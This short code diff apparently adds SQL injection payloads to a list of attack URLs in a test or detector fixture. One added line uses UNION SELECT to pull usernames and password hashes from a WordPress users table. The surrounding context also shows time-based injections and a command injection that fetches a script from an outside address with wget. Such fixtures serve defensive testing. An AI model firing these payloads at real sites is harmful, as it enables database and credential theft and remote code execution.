@@ -49,6 +49,9 @@ for (const [kind, targets] of Object.entries({
     "/p?id=1;waitfor+delay+'0:0:5'--",
     '/p?q=(select+table_name+from+information_schema.tables)',
     '/p?id=1+and+sleep(5)',
+    '/p?id=x%27%20UNION%20SELECT%20user_login,user_pass%20FROM%20wp_users--',
+    '/p?id=-5+union+select+table_name,2+from+t',
+    '/p?id=(1)+union+select+name+from+t',
   ],
   shell: [
     '/x?cmd=;wget%20http://203.0.113.9/a.sh',
